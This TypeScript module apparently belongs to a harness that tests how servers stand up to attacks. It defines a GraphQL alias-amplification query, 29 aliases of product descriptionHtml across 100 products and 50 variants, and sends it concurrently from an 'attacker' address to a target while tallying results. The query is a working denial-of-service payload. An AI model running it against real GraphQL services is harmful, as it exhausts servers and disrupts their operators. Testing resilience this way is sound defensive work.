import { ADDRESSES, type Attack } from "../attack.js";
import { closedLoop } from "../closed-loop.js";
import { clientFrom } from "../send.js";

const ALIASES = Array.from({ length: 29 }, (_, n) => `a${n}:product{descriptionHtml}`).join("");

/** A short query with an answer of hundreds of megabytes. */
export const QUERY = `{products(first:100){nodes{variants(first:50){nodes{${ALIASES}}}}}}`;

export const aliases = (atOnce: number): Attack => ({
  name: `aliases-${atOnce}`,
  sends: `${atOnce} at once: 29 aliases of product { descriptionHtml } below 100 products × 50 variants`,
  run: (target, tally) =>
    closedLoop(
      target,
      { client: clientFrom(ADDRESSES.attacker, atOnce), connections: atOnce },
      () => ({ query: { query: QUERY } }),
      tally,
    ),
});
